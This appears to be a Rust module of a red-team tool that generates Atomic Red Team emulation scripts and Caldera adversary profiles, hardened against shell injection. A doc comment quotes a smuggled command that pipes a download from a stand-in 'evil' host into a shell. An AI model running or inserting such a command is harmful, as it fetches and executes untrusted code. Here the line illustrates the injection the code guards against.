//! The emulation plan as things people run: a PowerShell script of `Invoke-AtomicTest` lines
//! (with `-GetPrereqs` first) per actor for Windows and cloud tests, the equivalent shell script
//! for Linux and macOS tests (through `pwsh`), and a Caldera adversary profile.
//!
//! The scripts run exactly the tests the plan lists and nothing else: tests are named by GUID
//! (`-TestGuids`; numbers shift between Atomic releases), every line passes
//! `-PathToAtomicsFolder` for the library the model used (never Invoke-AtomicTest's default
//! `C:\AtomicRedTeam\atomics`, normally a different library), the module is imported explicitly
//! (`pwsh -NoProfile` loads no profile), and a script stops before running anything when the
//! library folder is missing. A plan whose tests lack GUIDs gets no script at all
//! ([`check_guids`], exit 2). The Caldera profile names its abilities as Caldera's atomic plugin
//! does (`md5(json.dumps(test))`, see [`crate::inputs::caldera_id`]) and carries only the keys
//! Caldera's adversary schema knows.
//!
//! Every script starts with a warning to run it only in a lab. Text from outside (model, actor and
//! test names, executors) only ever appears in comments, stripped of line breaks so it cannot
//! escape them; command lines carry only technique IDs of the form `T1234.567` and GUIDs, and the
//! library path sits in one quoted assignment, quoted for its shell.

use miette::Diagnostic;
use serde::Serialize;
use sha2::{Digest, Sha256};
use thiserror::Error;

use crate::assessment::{ActorEmulation, Assessment, AtomicTest, EmulationStep};

/// Caldera's default objective ("Achieve the adversary's goals").
const CALDERA_DEFAULT_OBJECTIVE: &str = "495a9828-cab1-44dd-a0ca-66e58177d8cc";

const WARNING: &[&str] = &[
    "WARNING: these are real attack techniques. Run them only in an isolated lab, on systems you",
    "are authorised to test, with snapshots to roll back to. Some tests need elevation, download",
    "tools or change system settings; read each test (Invoke-AtomicTest ID -ShowDetails) first.",
];

/// Tests for the PowerShell script: Windows, and cloud or SaaS tests, which run from any host
/// with the module.
fn is_windows_or_cloud(test: &AtomicTest) -> bool {
    test.platforms.iter().any(|p| !matches!(p.as_str(), "linux" | "macos" | "containers"))
}

/// Tests for the shell script: Linux, macOS and containers.
fn is_unix(test: &AtomicTest) -> bool {
    test.platforms.iter().any(|p| matches!(p.as_str(), "linux" | "macos" | "containers"))
}

/// Text safe inside a one-line `#` comment of both shells: every character that ends a line
/// somewhere (`\n`, `\r`, vertical tab, form feed, NEL, U+2028, U+2029) and every other control
/// character becomes a space, so a test named `x\n$(curl evil|sh)` stays one comment line. No
/// other character ends a `#` comment in PowerShell or POSIX shells.
fn comment(text: &str) -> String {
    text.chars().map(|c| if c.is_control() || super::escape::is_line_break(c) { ' ' } else { c }).collect()
}

/// Whether a technique ID may go into a command line: only `T1234` or `T1234.567`. IDs come from
/// the ATT&CK bundle, which `--attack-data` can point anywhere, and the shell script puts them
/// inside single quotes.
fn is_technique_id(id: &str) -> bool {
    let (parent, sub) = match id.split_once('.') {
        Some((p, s)) => (p, Some(s)),
        None => (id, None),
    };
    let digits = |s: &str, n: usize| s.len() == n && s.bytes().all(|b| b.is_ascii_digit());
    parent.strip_prefix('T').is_some_and(|p| digits(p, 4)) && sub.is_none_or(|s| digits(s, 3))
}

/// Whether a GUID may go into a command line: `8-4-4-4-12` hex digits, nothing else.
pub fn is_guid(text: &str) -> bool {
    let parts: Vec<&str> = text.split('-').collect();
    parts.len() == 5
        && parts
            .iter()
            .zip([8, 4, 4, 4, 12])
            .all(|(p, n)| p.len() == n && p.bytes().all(|b| b.is_ascii_hexdigit()))
}

fn guids(tests: &[&AtomicTest]) -> String {
    tests.iter().filter_map(|t| t.guid.as_deref()).filter(|g| is_guid(g)).collect::<Vec<_>>().join(",")
}

/// The plan's tests that cannot be named by GUID: ttpc writes no script for such a library.
#[derive(Debug, Error, Diagnostic)]
#[error(
    "{count} atomic test(s) of the emulation plan have no valid `auto_generated_guid`; no script is written"
)]
#[diagnostic(
    code(ttpc::emulation::test_without_guid),
    help(
        "the scripts name tests by GUID (`Invoke-AtomicTest -TestGuids`), since test numbers differ between Atomic releases and libraries; run the Atomic Red Team GUID generator over the library (or use a clone of redcanaryco/atomic-red-team, whose tests all carry GUIDs). Tests: {tests}"
    )
)]
pub struct TestsWithoutGuid {
    /// How many.
    pub count: usize,
    /// `T1059.001 #2 "name"`, joined.
    pub tests: String,
}

/// Refuses a plan with a test lacking a valid GUID (checked before any script is rendered).
pub fn check_guids(a: &Assessment) -> Result<(), Box<TestsWithoutGuid>> {
    let Some(e) = &a.emulation else { return Ok(()) };
    let mut seen = std::collections::BTreeSet::new();
    for step in e.actors.iter().flat_map(|x| &x.steps) {
        for t in step.tests.iter().filter(|t| !t.guid.as_deref().is_some_and(is_guid)) {
            seen.insert(format!("{} #{} \"{}\"", comment(&step.technique), t.number, comment(&t.name)));
        }
    }
    if seen.is_empty() {
        return Ok(());
    }
    Err(Box::new(TestsWithoutGuid {
        count: seen.len(),
        tests: seen.into_iter().collect::<Vec<_>>().join(", "),
    }))
}

/// The library line of both scripts: where it is, and which commit or content digest.
fn library(a: &Assessment) -> (String, String) {
    match a.emulation.as_ref().and_then(|e| e.atomics.as_ref()) {
        Some(l) => {
            let version = match &l.commit {
                Some(c) => format!("git commit {c}; files sha256 {}", l.digest),
                None => format!("files sha256 {}", l.digest),
            };
            (l.path.clone(), version)
        }
        None => (String::new(), String::from("no library named")),
    }
}

/// The path as a literal both shells take whole, or empty when it holds a control character.
fn usable_path(path: &str) -> &str {
    if path.chars().any(|c| c.is_control() || super::escape::is_line_break(c)) { "" } else { path }
}

/// A PowerShell single-quoted string: every quote (PowerShell counts the typographic ones too)
/// doubled.
fn ps_quote(text: &str) -> String {
    let mut out = String::from("'");
    for c in text.chars() {
        if matches!(c, '\'' | '\u{2018}' | '\u{2019}' | '\u{201a}' | '\u{201b}') {
            out.push(c);
        }
        out.push(c);
    }
    out.push('\'');
    out
}

/// A POSIX shell single-quoted string.
fn sh_quote(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}

fn purpose(step: &EmulationStep) -> &'static str {
    if step.covered { "validates a covered technique" } else { "exercises a gap" }
}

/// The comment lines both scripts open with: model, actor and the run-only-in-a-lab warning.
fn header(out: &mut String, a: &Assessment, actor: &ActorEmulation) {
    out.push_str(&format!(
        "# Model: {}\n# Actor: {} ({})\n#\n",
        comment(&a.model.name),
        comment(&actor.name),
        comment(&actor.id)
    ));
    for line in WARNING {
        out.push_str(&format!("# {line}\n"));
    }
    let (path, version) = library(a);
    out.push_str(&format!(
        "#\n# Atomic Red Team library: {} ({})\n# Tests are named by GUID and taken from that library only (-PathToAtomicsFolder).\n",
        comment(&path),
        comment(&version)
    ));
}

/// The PowerShell script for one actor.
pub fn powershell(a: &Assessment, actor: &ActorEmulation) -> String {
    let mut out = String::from("# Invoke-AtomicRedTeam emulation plan generated by ttpc.\n");
    header(&mut out, a, actor);
    let (path, _) = library(a);
    out.push_str(&format!(
        "#\n# Needs the Invoke-AtomicRedTeam module: https://github.com/redcanaryco/invoke-atomicredteam\n\
         # -PathToAtomicsFolder: the library's `atomics` folder; a relative path is taken from the\n\
         # current folder (the model names it relative to the model's folder).\n\
         # -Module: the module's name, or the path to Invoke-AtomicRedTeam.psd1.\n\
         param(\n    [string]$PathToAtomicsFolder = {},\n    [string]$Module = 'invoke-atomicredteam'\n)\n\
         $ErrorActionPreference = 'Continue'\n\
         if (-not $PathToAtomicsFolder -or -not (Test-Path -LiteralPath $PathToAtomicsFolder -PathType Container)) {{\n\
         \x20   Write-Error \"No Atomic Red Team library at '$PathToAtomicsFolder': pass -PathToAtomicsFolder; nothing was run.\"\n\
         \x20   exit 2\n}}\n\
         Import-Module $Module -ErrorAction Stop\n",
        ps_quote(usable_path(&path))
    ));
    script_body(&mut out, actor, is_windows_or_cloud, |id, list, prereqs| {
        let mut lines = String::new();
        let run =
            format!("Invoke-AtomicTest {id} -TestGuids {list} -PathToAtomicsFolder $PathToAtomicsFolder");
        if prereqs {
            lines.push_str(&format!("{run} -GetPrereqs\n"));
        }
        lines.push_str(&format!("{run}\n"));
        lines
    });
    out
}

/// The shell script (Linux, macOS) for one actor.
pub fn shell(a: &Assessment, actor: &ActorEmulation) -> String {
    let mut out = String::from(
        "#!/usr/bin/env bash\n# Invoke-AtomicRedTeam emulation plan generated by ttpc (Linux and macOS tests).\n",
    );
    header(&mut out, a, actor);
    let (path, _) = library(a);
    out.push_str(&format!(
        "#\n# Needs PowerShell (pwsh) with the Invoke-AtomicRedTeam module installed.\n\
         # TTPC_ATOMICS_FOLDER: the library's `atomics` folder (default below; a relative path is\n\
         # taken from the current folder). TTPC_ATOMIC_MODULE: the module's name or .psd1 path.\n\
         set -u\n\
         atomics={}\n\
         if [ -n \"${{TTPC_ATOMICS_FOLDER:-}}\" ]; then atomics=\"$TTPC_ATOMICS_FOLDER\"; fi\n\
         if [ -z \"$atomics\" ] || [ ! -d \"$atomics\" ]; then\n\
         \x20   echo \"No Atomic Red Team library at '$atomics': set TTPC_ATOMICS_FOLDER; nothing was run.\" >&2\n\
         \x20   exit 2\nfi\n\
         export TTPC_ATOMICS_FOLDER=\"$atomics\"\n\
         export TTPC_ATOMIC_MODULE=\"${{TTPC_ATOMIC_MODULE:-invoke-atomicredteam}}\"\n",
        sh_quote(usable_path(&path))
    ));
    script_body(&mut out, actor, is_unix, |id, list, prereqs| {
        let mut lines = String::new();
        let run = format!(
            "Import-Module $env:TTPC_ATOMIC_MODULE -ErrorAction Stop; Invoke-AtomicTest {id} -TestGuids {list} -PathToAtomicsFolder $env:TTPC_ATOMICS_FOLDER"
        );
        if prereqs {
            lines.push_str(&format!("pwsh -NoProfile -Command '{run} -GetPrereqs'\n"));
        }
        lines.push_str(&format!("pwsh -NoProfile -Command '{run}'\n"));
        lines
    });
    out
}

fn script_body(
    out: &mut String,
    actor: &ActorEmulation,
    wanted: fn(&AtomicTest) -> bool,
    invoke: impl Fn(&str, &str, bool) -> String,
) {
    let mut tactic = "";
    for step in &actor.steps {
        if step.tactic != tactic {
            tactic = &step.tactic;
            out.push_str(&format!("\n# ── {} ──\n", comment(tactic)));
        }
        let tests: Vec<&AtomicTest> =
            step.tests.iter().filter(|t| wanted(t) && t.guid.as_deref().is_some_and(is_guid)).collect();
        out.push_str(&format!("# {} {} — {}", comment(&step.technique), comment(&step.name), purpose(step)));
        if !is_technique_id(&step.technique) {
            out.push_str("; not an ATT&CK technique ID, not run\n");
            continue;
        }
        if tests.is_empty() {
            out.push_str(if step.tests.is_empty() {
                "; no atomic test\n"
            } else {
                "; no test for this platform\n"
            });
            continue;
        }
        out.push('\n');
        for t in &tests {
            let mut notes = vec![comment(&t.executor)];
            if t.elevation_required {
                notes.push(String::from("needs elevation"));
            }
            let guid = t.guid.as_deref().unwrap_or_default();
            out.push_str(&format!(
                "#   {guid} (#{}) {} [{}]\n",
                t.number,
                comment(&t.name),
                notes.join(", ")
            ));
        }
        let prereqs = tests.iter().any(|t| t.has_prerequisites);
        out.push_str(&invoke(&step.technique, &guids(&tests), prereqs));
    }
}

/// A Caldera adversary profile: exactly the keys of Caldera's `AdversarySchema` (4.x and 5.x
/// reject any other), abilities named as the atomic plugin names them.
#[derive(Debug, Serialize)]
pub struct CalderaAdversary {
    id: String,
    name: String,
    description: String,
    objective: String,
    tags: Vec<String>,
    /// Ability ids in kill-chain order: `md5(json.dumps(test))` of each Atomic test, as the
    /// atomic plugin imports it.
    atomic_ordering: Vec<String>,
}

/// A version-4 UUID (RFC 9562) from a digest: stable per model and actor, valid version and
/// variant bits.
pub fn uuid_v4(seed: &str) -> String {
    let mut bytes: Vec<u8> = Sha256::digest(seed.as_bytes()).iter().take(16).copied().collect();
    bytes[6] = (bytes[6] & 0x0f) | 0x40;
    bytes[8] = (bytes[8] & 0x3f) | 0x80;
    let hex: String = bytes.iter().map(|b| format!("{b:02x}")).collect();
    format!("{}-{}-{}-{}-{}", &hex[..8], &hex[8..12], &hex[12..16], &hex[16..20], &hex[20..32])
}

/// The Caldera adversary profile for one actor.
pub fn caldera(a: &Assessment, actor: &ActorEmulation) -> CalderaAdversary {
    let tests: Vec<&AtomicTest> = actor.steps.iter().flat_map(|s| &s.tests).collect();
    let mut ordering: Vec<String> = Vec::new();
    for id in tests.iter().filter_map(|t| t.caldera_ability.clone()) {
        if !ordering.contains(&id) {
            ordering.push(id);
        }
    }
    let left_out = tests.iter().filter(|t| t.caldera_ability.is_none()).count();
    let techniques: Vec<&str> = actor.steps.iter().map(|s| s.technique.as_str()).collect();
    let (path, version) = library(a);
    let mut description = format!(
        "Generated by ttpc from the threat model \"{}\" (ATT&CK {} {}): the actor's in-scope techniques in kill-chain order ({}). Abilities are Atomic Red Team tests as Caldera's atomic plugin imports them, from the library {} ({}); point the plugin at the same library.",
        a.model.name,
        a.model.domain,
        a.model.attack_version,
        techniques.join(", "),
        path,
        version
    );
    if left_out > 0 {
        description.push_str(&format!(
            " {left_out} test(s) of the plan are left out: the plugin imports no ability for them (manual executor, no command)."
        ));
    }
    CalderaAdversary {
        id: uuid_v4(&format!("ttpc:{}:{}", a.model.name, actor.id)),
        name: format!("{} ({}) — {}", actor.name, actor.id, a.model.name),
        description,
        objective: CALDERA_DEFAULT_OBJECTIVE.to_owned(),
        tags: vec![String::from("ttpc"), actor.id.clone()],
        atomic_ordering: ordering,
    }
}
